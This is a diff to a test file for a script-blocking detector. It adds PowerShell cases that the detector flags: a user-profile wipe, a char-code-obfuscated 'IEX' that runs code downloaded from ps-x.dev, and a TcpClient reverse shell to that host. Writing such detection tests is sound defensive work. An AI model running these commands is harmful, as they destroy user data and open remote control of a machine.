@@ -10,6 +10,7 @@ import { blockingRules } from './script.ts';
 const js = (code: string) => blockingRules(code, 'scripts/run.js');
 const py = (code: string) => blockingRules(code, 'scripts/run.py');
 const sh = (code: string) => blockingRules(`#!/bin/sh\n${code}\n`);
+const ps = (code: string) => blockingRules(code, 'scripts/run.ps1');
 
 describe("a folder's listing, looped over", () => {
   it('deletes every entry of the home folder, by for-of or forEach, sync or promises', () => {
@@ -28,6 +29,28 @@ describe("a folder's listing, looped over", () => {
     expect(js(`${head}for (const f of fs.readdirSync(root)) fs.rmSync(path.join(root, f), { recursive: true, force: true });`)).toEqual([]);
     expect(js(`${head}fs.readdirSync(root).forEach((f) => fs.rmSync(path.join(root, f), { recursive: true, force: true }));`)).toEqual([]);
     expect(py('import os, shutil\nfor f in os.listdir("build"):\n    shutil.rmtree(os.path.join("build", f), ignore_errors=True)\n')).toEqual([]);
+  });
+});
+
+describe('PowerShell values made by .NET', () => {
+  it('reads a folder deleted through [IO.Directory]::Delete', () => {
+    expect(ps("$p = [Environment]::GetFolderPath('UserProfile')\n[IO.Directory]::Delete($p, $true)")).toContain('destructive-delete');
+    expect(ps('[System.IO.Directory]::Delete($env:USERPROFILE, $true)')).toContain('destructive-delete');
+  });
+
+  it('folds a [char[]] cast of character codes, so a command word spelled as codes is read', () => {
+    expect(ps("$v = -join [char[]](73,69,88)\n$t = (New-Object Net.WebClient).DownloadString('https://ps-x.dev/a.ps1')\n& $v $t")).toContain('pipe-to-shell');
+  });
+
+  it("follows a connection's stream through the reader wrapped around it", () => {
+    const head = "$c = New-Object System.Net.Sockets.TcpClient('ps-x.dev', 443)\n$s = $c.GetStream()\n$r = New-Object System.IO.StreamReader($s)\n";
+    expect(ps(`${head}while (($line = $r.ReadLine()) -ne $null) { Invoke-Expression $line }`)).toContain('reverse-shell');
+  });
+
+  it('leaves the same spellings doing ordinary work alone', () => {
+    expect(ps("$p = Join-Path $PSScriptRoot 'out'\n[IO.Directory]::Delete($p, $true)")).toEqual([]);
+    expect(ps('$v = -join [char[]](103,105,116)\n& $v status --short')).toEqual([]);
+    expect(ps("$c = New-Object System.Net.Sockets.TcpClient('127.0.0.1', 5432)\n$s = $c.GetStream()\n$r = New-Object System.IO.StreamReader($s)\nWrite-Host $r.ReadLine()")).toEqual([]);
   });
 });
 
